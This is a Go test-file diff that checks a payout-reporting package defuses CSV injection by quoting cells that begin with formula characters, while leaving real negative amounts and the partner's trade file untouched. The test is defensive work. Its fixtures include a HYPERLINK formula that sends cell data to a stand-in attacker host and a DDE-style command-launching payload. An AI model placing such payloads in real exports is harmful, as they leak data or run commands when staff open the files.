@@ -3,6 +3,7 @@ package load
 import (
 	"context"
 	"crypto/sha256"
+	"encoding/csv"
 	"encoding/hex"
 	"os"
 	"path/filepath"
@@ -78,5 +79,92 @@ func TestWriteTradeFileReportsDigestSizeAndRows(t *testing.T) {
 	}
 	if !strings.HasPrefix(string(b), "order_no,trade_type,product_type,currency,amount,commission,seller_amount,trade_time\n") {
 		t.Fatalf("header: %s", b)
+	}
+}
+
+// TestReportCellsAreNotFormulas: text from the platform's rows (a
+// rejected row keeps whatever it read: order_no, seller_id, amount text)
+// or from a provider (a reference, a refusal's words, a mismatch's detail)
+// was written into the CSVs as it was; a cell starting with '=', '+', '-'
+// or '@' is a formula to Excel and LibreOffice when finance opens the file
+// (CSV injection, found by a review). Such text now starts with a single
+// quote; numbers such as a clawback's -900 or -9.00 stay numbers, and a
+// trade file (Infinia's data) is written as it is.
+func TestReportCellsAreNotFormulas(t *testing.T) {
+	d := pipeline.Date{Year: 2026, Month: 11, Day: 23}
+	r := Reports{Dir: t.TempDir()}
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	ctx := context.Background()
+	paths := map[string]string{}
+	var err error
+	paths["orders"], err = r.WriteOrders(ctx, d, func(fn func(pipeline.OrderLine) error) error {
+		// a rejected source row keeps the text it read
+		if err := fn(pipeline.OrderLine{OrderNo: evil, SellerID: "@SUM(1+1)*cmd|' /C calc'!A0", Gross: "+1+1", Action: "rejected",
+			State: "rejected", Reason: "amount_minor: not an integer"}); err != nil {
+			return err
+		}
+		// a late refund's clawback: a legitimately negative number
+		return fn(pipeline.OrderLine{OrderNo: "O1", SellerID: "S1", Refunded: "1000", Commission: "-100", Seller: "-9.00",
+			Action: "late_refund", State: "clawed", ProviderRef: "=1+1"})
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	paths["payouts"], err = r.WritePayouts(d, func(fn func(pipeline.PayoutLine) error) error {
+		return fn(pipeline.PayoutLine{Kind: "revenue_share", Subject: "RS/20261123/S1/USD", Key: "RS-1", Currency: "USD",
+			Amount: 100, State: "failed", ProviderRef: evil, LastError: "-2+3"})
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	paths["mismatches"], err = r.WriteMismatches(d, func(fn func(pipeline.Mismatch) error) error {
+		return fn(pipeline.Mismatch{Provider: "wechatpay", Category: "status", Subject: "bill/1/2026-11-23", TheirsState: "=REFUSED()", Detail: "@x"})
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	quoted := 0
+	for name, p := range paths {
+		f, err := os.Open(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(f).ReadAll()
+		f.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, rec := range recs[1:] {
+			for j, cell := range rec {
+				if cell == "" {
+					continue
+				}
+				if isNumber(cell) {
+					continue // a number, e.g. -9.00
+				}
+				switch cell[0] {
+				case '=', '+', '-', '@', '\t', '\r':
+					t.Errorf("%s.csv row %d column %s: %q is a formula to a spreadsheet", name, i+1, recs[0][j], cell)
+				case '\'':
+					quoted++
+				}
+			}
+		}
+	}
+	if quoted != 8 {
+		t.Errorf("%d cells quoted, want the 8 formulas", quoted)
+	}
+	if got := formulaSafe("-12"); got != "-12" {
+		t.Errorf("-12 written %q", got)
+	}
+	// A trade file is Infinia's: its cells as they are.
+	dir := t.TempDir()
+	if _, err := WriteTradeFile(dir, "TD.csv", func(emit func(pipeline.TradeRow) error) error {
+		return emit(pipeline.TradeRow{OrderNo: "=O1"})
+	}); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "TD.csv")); !strings.Contains(string(b), "\n=O1,") {
+		t.Errorf("trade file changed:\n%s", b)
 	}
 }
